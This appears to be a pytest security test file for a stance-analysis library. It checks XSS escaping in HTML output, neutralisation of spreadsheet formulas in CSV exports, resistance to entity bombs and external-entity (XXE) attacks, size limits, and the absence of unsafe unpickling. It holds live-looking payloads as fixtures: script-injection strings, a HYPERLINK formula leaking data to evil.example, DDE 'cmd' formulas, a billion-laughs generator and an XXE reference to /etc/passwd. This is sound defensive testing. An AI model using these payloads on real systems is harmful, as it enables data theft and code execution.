"""Hostile content and unsafe files: HTML output escapes the text, CSV exports neutralise
spreadsheet formulas, HTML parsing expands no entity bombs and resolves no external
entity, size limits hold, and models and resources load without executing code.

Runs every stage.
"""

from __future__ import annotations

import ast
import csv
import html.parser
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import stancekit
from stancekit import AnalysisConfig, Analyzer
from stancekit.cli import main
from stancekit.config import STAGES
from stancekit.errors import InputTooLargeError, ResourceError
from stancekit.frames import neutralize_formulas, write_table

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def analyzer() -> Analyzer:
    return Analyzer(AnalysisConfig(stages=STAGES))


# --------------------------------------------------------------------------- HTML output
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</style><script>alert(4)</script>",
    "<iframe src=javascript:alert(5)></iframe>",
]
HOSTILE_TEXT = (
    "The minister said Iran must stop arming the militias <script>alert(1)</script> in Iraq. "
    'The United States should act now "><img src=x onerror=alert(2)>, officials said.\n\n'
    "Hezbollah '><svg onload=alert(3)> cannot be allowed to rebuild its arsenal. "
    "</style><script>alert(4)</script> Russia must withdraw <iframe src=javascript:alert(5)></iframe> now."
)
# tags that run code, load something or navigate; none may come out of a document's text
DENIED_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "img", "image",
    "base", "link", "form", "meta", "video", "audio", "source", "track", "portal", "math",
}  # fmt: skip
URL_ATTRS = {"src", "href", "srcset", "action", "formaction", "data", "xlink:href", "poster"}


class _Audit(html.parser.HTMLParser):
    """Collects tags, event-handler attributes, URLs and the visible text of an HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for k, v in attrs:
            v = v or ""
            if k.startswith("on"):
                self.handlers.append((tag, k))
            if "javascript:" in v.lower().replace(" ", ""):
                self.urls.append(f"{tag} {k}={v}")
            elif k in URL_ATTRS and not (v.startswith("#") or v == ""):
                self.urls.append(f"{tag} {k}={v}")  # the page is self-contained

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def audit(page: str) -> _Audit:
    a = _Audit()
    a.feed(page)
    a.close()
    allowed_meta = page.count("<meta charset") + page.count('<meta name="viewport"')
    denied = a.tags & DENIED_TAGS - ({"meta"} if allowed_meta else set())
    assert not denied, f"tags that must not come out of a text: {denied}"
    assert not a.handlers, a.handlers
    assert not a.urls, a.urls
    return a


def test_repr_html_escapes_the_text(analyzer):
    a = analyzer.analyze(HOSTILE_TEXT, title='Title <script>alert("t")</script>')
    assert "<script>alert(1)</script>" in a.document.text  # plain text, kept as text
    page = a._repr_html_()
    for x in XSS:
        assert x not in page
    shown = "".join(audit(page).text)
    for x in XSS:  # shown as text, not dropped
        assert x in shown, x
    assert '<script>alert("t")</script>' in shown


def test_escaped_markup_in_an_html_page_stays_text(analyzer):
    page = (
        "<html><head><title>On &lt;script&gt; tags</title></head><body><article>"
        "<p>The minister said Iran must stop arming the militias, and wrote "
        "&lt;script&gt;alert(1)&lt;/script&gt; in his statement on Monday.</p>"
        "<p>The United States should act now &quot;&gt;&lt;img src=x onerror=alert(2)&gt;.</p>"
        "<p>Officials said the talks would resume next week in Geneva, as planned.</p>"
        "</article></body></html>"
    )
    a = analyzer.analyze(page)
    assert "<script>alert(1)</script>" in a.document.text
    out = a._repr_html_()
    assert "<script>alert(1)</script>" not in out and "<img" not in out
    assert "<script>alert(1)</script>" in "".join(audit(out).text)


def test_report_escapes_the_text(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "hostile.txt").write_text(
        'Title "><img src=x onerror=alert(0)>\n\n' + HOSTILE_TEXT, encoding="utf-8"
    )
    (src / "index.jsonl").write_text(
        json.dumps(
            {
                "file": "hostile.txt",
                "author": "<script>alert('author')</script>",
                "source": "<b onmouseover=alert('src')>Outlet</b>",
            }
        )
        + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "report.html"
    stages = ",".join(STAGES)
    rc = main(["report", str(src), "-o", str(out), "-q", "-j", "1", "--stages", stages])
    assert rc == 0
    page = out.read_text(encoding="utf-8")
    for x in XSS:
        assert x not in page
    shown = "".join(audit(page).text)
    assert "<script>alert(1)</script>" in shown
    assert "<script>alert('author')</script>" in shown


# --------------------------------------------------------------------------- CSV formulas
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_formula_safe(directory: Path) -> int:
    """No CSV cell under ``directory`` starts with = + - @ tab or CR, unless it is a number."""
    n = 0
    for f in sorted(directory.glob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    n += 1
                    assert not (cell.startswith(DANGEROUS) and not _is_number(cell)), (f.name, cell)
    return n


def _formula_folder(root: Path) -> Path:
    root.mkdir()
    body = (
        "The minister said Iran must stop arming the militias in Iraq, on Monday.\n\n"
        + "\n\n".join(
            f"{f} is what the page said, and the United States should act." for f in FORMULAS
        )
    )
    (root / "article.txt").write_text("=1+1 Title of the piece\n\n" + body, encoding="utf-8")
    (root / "=cmd.txt").write_text(body, encoding="utf-8")
    (root / "@SUM(A1).txt").write_text(body, encoding="utf-8")
    (root / "-2+3.txt").write_text(body, encoding="utf-8")
    (root / "binary.txt").write_bytes(b"\x00\x01\x02")  # an error row
    (root / "rows.jsonl").write_text(
        "\n".join(
            json.dumps({"id": f, "title": f, "author": f, "text": f + " Iran must act now."})
            for f in FORMULAS[:4]
        )
        + "\n",
        encoding="utf-8",
    )
    return root


def test_cli_csv_export_neutralises_formulas(tmp_path):
    src = _formula_folder(tmp_path / "in")
    out = tmp_path / "out"
    stages = ",".join(STAGES)
    rc = main(
        [
            "analyze",
            str(src),
            "-o",
            str(out),
            "--format",
            "csv",
            "-q",
            "-j",
            "1",
            "--stages",
            stages,
        ]
    )
    assert rc == 0
    assert assert_formula_safe(out) > 50
    docs = pd.read_csv(out / "documents.csv", dtype=str)
    assert "'=cmd" in set(docs.doc_id) and "'@SUM(A1)" in set(docs.doc_id)
    assert "'-2+3" in set(docs.doc_id)
    assert any(str(t).startswith("'=HYPERLINK") for t in docs.title)
    errors = pd.read_csv(out / "errors.csv", dtype=str)
    assert list(errors.doc_id) == ["binary"]


def test_corpus_write_neutralises_formulas(tmp_path, analyzer):
    src = _formula_folder(tmp_path / "in")
    corpus = analyzer.analyze_corpus(src, n_process=1, progress=False)
    out = corpus.write(tmp_path / "out", format="csv")
    assert assert_formula_safe(out) > 50
    # jsonl keeps the exact text (it is not read by spreadsheets)
    out2 = analyzer.analyze_corpus(src, n_process=1, progress=False).write(
        tmp_path / "out2", format="jsonl"
    )
    docs = [json.loads(x) for x in (out2 / "documents.jsonl").read_text("utf-8").splitlines()]
    assert "=cmd" in {d["doc_id"] for d in docs}


def test_neutralize_formulas_leaves_numbers_and_plain_text():
    df = pd.DataFrame(
        {
            "text": [*FORMULAS, "plain", "", None, "-", "'already"],
            "score": [-0.5, 1.0, -1.0, 0.0, 0.25, -0.75, 1.0, 0.0, 0.5, -0.1, 0.2],
            "items": [["=x"], [], ["a"], [], [], [], [], [], [], [], []],
        }
    )
    out = neutralize_formulas(df)
    assert list(out.score) == list(df.score)
    for before, after in zip(df.text, out.text):
        if isinstance(before, str) and before.startswith(DANGEROUS):
            assert after == "'" + before
        else:
            assert after == before or (pd.isna(before) and pd.isna(after))
    # lists become JSON text in CSV files ("[...]" is not a formula)
    write_table(df, Path(os.devnull), "csv")


# --------------------------------------------------------------------------- XML attacks
def _billion_laughs(levels: int = 10) -> str:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '<!ENTITY lol "lol">']
    prev = "lol"
    for i in range(1, levels):
        lines.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
        prev = f"lol{i}"
    lines.append("]>")
    lines.append(
        "<html><head><title>Laughs</title></head><body><article>"
        f"<p>The minister said Iran must stop arming the militias in Iraq. &{prev}; End.</p>"
        "<p>The United States should act now, officials said on Monday in Washington.</p>"
        "<p>Talks would resume next week in Geneva, according to the foreign ministry.</p>"
        "</article></body></html>"
    )
    return "\n".join(lines)


def _xxe(target: str) -> str:
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{target}"> <!ENTITY % pe SYSTEM "{target}"> %pe;]>\n'
        "<html><head><title>XXE</title></head><body><article>"
        "<p>The minister said Iran must stop arming the militias in Iraq. &xxe; End.</p>"
        "<p>The United States should act now, officials said on Monday in Washington.</p>"
        "<p>Talks would resume next week in Geneva, according to the foreign ministry.</p>"
        "</article></body></html>"
    )


@pytest.mark.parametrize("suffix", [".html", ".xhtml", ".txt"])
def test_entity_bombs_and_external_entities_are_not_expanded(tmp_path, analyzer, suffix):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    (tmp_path / f"laughs{suffix}").write_text(_billion_laughs(), encoding="utf-8")
    (tmp_path / f"xxe{suffix}").write_text(_xxe(secret.as_uri()), encoding="utf-8")
    t0 = time.perf_counter()
    stream = stancekit.load([tmp_path / f"laughs{suffix}", tmp_path / f"xxe{suffix}"])
    docs = list(stream)
    assert time.perf_counter() - t0 < 10
    assert len(docs) + len(stream.errors) == 2
    for d in docs:
        assert "TOP-SECRET" not in d.text and "TOP-SECRET" not in (d.title or "")
        assert "lollollol" not in d.text
        assert len(d.text) < 5_000
    # analyze() on the same strings
    for text in (_billion_laughs(), _xxe(secret.as_uri()), _xxe("file:///etc/passwd")):
        t0 = time.perf_counter()
        a = analyzer.analyze(text)
        assert time.perf_counter() - t0 < 30
        assert "TOP-SECRET" not in a.to_json() and "root:" not in a.document.text
        assert "lollollol" not in a.document.text


# --------------------------------------------------------------------------- size limits
def test_size_limit_in_a_corpus_run_is_an_error_row(tmp_path, analyzer):
    (tmp_path / "small.txt").write_text("Iran must stop arming the militias.", encoding="utf-8")
    (tmp_path / "huge.txt").write_text("Iran must act. " * 2_000, encoding="utf-8")
    config = AnalysisConfig(stages=analyzer.config.stages, max_chars=10_000)
    corpus = Analyzer(config).analyze_corpus(tmp_path, n_process=1, progress=False)
    assert [a.document.doc_id for a in corpus.analyses] == ["small"]
    [row] = corpus.errors.itertuples()
    assert (row.doc_id, row.error_type) == ("huge", "InputTooLargeError")
    assert "max_chars=10,000" in row.message and "huge" in row.message
    with pytest.raises(InputTooLargeError, match="max_chars"):
        Analyzer(config).analyze("x" * 10_001)
    # the CLI flag
    rc = main(["analyze", str(tmp_path), "-o", str(tmp_path / "out"), "-q", "-j", "1",
               "--max-chars", "10000", "--stages", ",".join(analyzer.config.stages)])  # fmt: skip
    assert rc == 0
    errors = pd.read_csv(tmp_path / "out" / "errors.csv")
    assert list(errors.error_type) == ["InputTooLargeError"]


# --------------------------------------------------------------------------- no code execution
# reading any of these can run code; pickle itself may only *write* (pickle.dumps as a
# hash key is harmless), never read
UNSAFE_IMPORTS = {"cPickle", "dill", "cloudpickle", "joblib", "shelve", "marshal", "torch"}
UNSAFE_CALLS = {"eval", "exec", "__import__", "read_pickle", "Unpickler", "_Unpickler"}
UNPICKLE = {"load", "loads"}


def _python_files() -> list[Path]:
    files = sorted((ROOT / "src" / "stancekit").rglob("*.py"))
    files += sorted((ROOT / "scripts").rglob("*.py")) if (ROOT / "scripts").is_dir() else []
    return files


def _problems(tree: ast.AST) -> list[str]:
    problems = []
    pickle_names = {"pickle"}  # names under which the pickle module is imported
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            problems += [a.name for a in node.names if a.name.split(".")[0] in UNSAFE_IMPORTS]
            pickle_names |= {a.asname for a in node.names if a.name == "pickle" and a.asname}
        elif isinstance(node, ast.ImportFrom):
            mod = (node.module or "").split(".")[0]
            if mod in UNSAFE_IMPORTS:
                problems.append(node.module)
            if mod == "pickle" and any(a.name in UNPICKLE | {"Unpickler"} for a in node.names):
                problems.append(f"line {node.lineno}: from pickle import load(s)")
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
        owner = ast.unparse(func.value) if isinstance(func, ast.Attribute) else ""
        if name in UNSAFE_CALLS:
            problems.append(f"line {node.lineno}: {name}()")
        if owner in pickle_names and name in UNPICKLE:
            problems.append(f"line {node.lineno}: {owner}.{name}()")
        for kw in node.keywords:
            if kw.arg == "allow_pickle" and not (
                isinstance(kw.value, ast.Constant) and kw.value.value is False
            ):
                problems.append(f"line {node.lineno}: allow_pickle={ast.unparse(kw.value)}")
        # np.load must say allow_pickle=False; no yaml.load
        has_flag = any(kw.arg == "allow_pickle" for kw in node.keywords)
        if name == "load" and owner in ("np", "numpy") and not has_flag:
            problems.append(f"line {node.lineno}: np.load without allow_pickle=False")
        if name == "load" and owner == "yaml":
            problems.append(f"line {node.lineno}: yaml.load")
    return problems


def test_the_source_check_finds_unsafe_code():
    bad = (
        "import pickle, joblib\nimport numpy as np\nfrom pickle import loads\n"
        "pickle.load(f)\nnp.load(p)\nnp.load(p, allow_pickle=True)\neval('1')\n"
    )
    assert len(_problems(ast.parse(bad))) == 6
    good = "import pickle\nimport numpy as np\npickle.dumps(x)\nnp.load(p, allow_pickle=False)\n"
    assert _problems(ast.parse(good)) == []


@pytest.mark.parametrize("path", _python_files(), ids=lambda p: str(p.relative_to(ROOT)))
def test_source_never_unpickles_or_evaluates(path):
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    problems = _problems(tree)
    assert not problems, f"{path.relative_to(ROOT)}: {problems}"


def test_packaged_resources_are_data_only():
    from stancekit.resources import list_resources

    names = list_resources()
    assert names
    allowed = (".json", ".jsonl", ".txt", ".csv", ".tsv", ".md")
    for name in names:
        assert name.endswith(allowed) or name in ("NOTICE", "LICENSE", "README"), name
    # and every one is UTF-8 text (data, not code or pickles)
    from importlib import resources as ir

    for name in names:
        ir.files("stancekit.resources").joinpath(name).read_bytes().decode("utf-8")


def test_stored_models_are_arrays_only():
    from stancekit.models import models_dir

    found = sorted(models_dir().glob("*.npz"))
    for npz in found:
        with np.load(npz, allow_pickle=False) as data:  # raises on object (pickled) arrays
            for key in data.files:
                assert data[key].dtype != object, (npz.name, key)
        card = json.loads(npz.with_suffix(".json").read_text(encoding="utf-8"))
        assert card.get("rebuild"), f"{npz.with_suffix('.json').name} has no rebuild command"
    leftovers = [
        p.name for p in models_dir().glob("*") if p.suffix in (".pkl", ".pickle", ".joblib")
    ]
    assert not leftovers


@pytest.fixture
def fresh_model_cache():
    from stancekit.models import load_model_files

    load_model_files.cache_clear()
    yield
    load_model_files.cache_clear()


def _toy_model(directory: Path, name: str = "toy") -> None:
    from stancekit.models import save_model_files

    save_model_files(
        name,
        {"coef": np.ones((1, 3)), "intercept": np.zeros(1), "classes": np.array(["no", "yes"])},
        {"rebuild": f"python scripts/train_{name}.py --seed 1", "licence": "test"},
        directory=directory,
    )


def test_missing_corrupt_or_pickled_model_says_how_to_rebuild(
    tmp_path, monkeypatch, fresh_model_cache
):
    from stancekit.models import load_linear_model, load_model_files

    monkeypatch.setenv("STANCEKIT_MODELS_DIR", str(tmp_path))
    _toy_model(tmp_path)
    assert load_linear_model("toy").predict(np.ones((1, 3))) == ["yes"]
    load_model_files.cache_clear()

    # corrupt arrays
    (tmp_path / "toy.npz").write_bytes(b"PK\x03\x04 this is not a zip file")
    with pytest.raises(ResourceError, match=r"corrupt.*python scripts/train_toy\.py --seed 1"):
        load_model_files("toy")
    # a pickled object array inside the npz: refused, never unpickled
    np.savez(tmp_path / "toy.npz", coef=np.array([{"x": 1}], dtype=object))
    with pytest.raises(ResourceError, match=r"unsafe.*train_toy\.py"):
        load_model_files("toy")
    # a corrupt model card
    _toy_model(tmp_path)
    (tmp_path / "toy.json").write_text("{not json", encoding="utf-8")
    with pytest.raises(ResourceError, match=r"card.*corrupt.*Rebuild"):
        load_model_files("toy")
    # missing
    with pytest.raises(ResourceError, match=r"missing.*Rebuild it.*train_nothing\.py"):
        load_model_files("nothing")
    # arrays the model needs are missing
    from stancekit.models import save_model_files

    save_model_files(
        "partial", {"coef": np.ones((1, 2))}, {"rebuild": "make partial"}, directory=tmp_path
    )
    with pytest.raises(ResourceError, match=r"missing.*make partial"):
        load_linear_model("partial")


STAGE_RUN = """
import json, os, sys
from stancekit import AnalysisConfig, Analyzer
from stancekit.errors import StageError
from stancekit.models import load_model_files
out = []
for folder in json.loads(sys.argv[2]):
    os.environ["STANCEKIT_MODELS_DIR"] = folder
    for stage in json.loads(sys.argv[1]):
        load_model_files.cache_clear()
        try:
            Analyzer(AnalysisConfig(stages=(stage,))).analyze(
                "Iran must stop arming the militias, the minister said. The United States should act."
            )
        except StageError as exc:
            out.append([folder, stage, type(exc.cause).__name__, str(exc)])
        else:
            out.append([folder, stage, None, ""])
print(json.dumps(out))
"""


def test_stages_with_a_corrupt_or_missing_model_fail_with_a_rebuild_hint(tmp_path):
    """A fresh process (no model loaded yet) with STANCEKIT_MODELS_DIR pointing at corrupt
    copies of the real models, then at an empty folder."""
    from stancekit.models import models_dir

    real = sorted(models_dir().glob("*.npz"))
    if not real:
        pytest.skip("no trained model in this checkout yet")
    corrupt = tmp_path / "corrupt"
    corrupt.mkdir()
    for npz in real:
        shutil.copy(npz.with_suffix(".json"), corrupt / npz.with_suffix(".json").name)
        (corrupt / npz.name).write_bytes(npz.read_bytes()[: npz.stat().st_size // 2])
    empty = tmp_path / "empty"
    empty.mkdir()
    proc = subprocess.run(
        [sys.executable, "-c", STAGE_RUN, json.dumps(STAGES),
         json.dumps([str(corrupt), str(empty)])],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = json.loads(proc.stdout.strip().splitlines()[-1])
    uses_models = {stage for folder, stage, cause, _ in results if cause is not None}
    if not uses_models:
        pytest.skip("no usable stage reads a trained model")
    for folder, stage, cause, message in results:
        if stage not in uses_models:
            continue
        assert cause == "ResourceError", (folder, stage, cause, message)
        assert "Rebuild" in message, message
        assert ("corrupt" if folder == str(corrupt) else "missing") in message, message
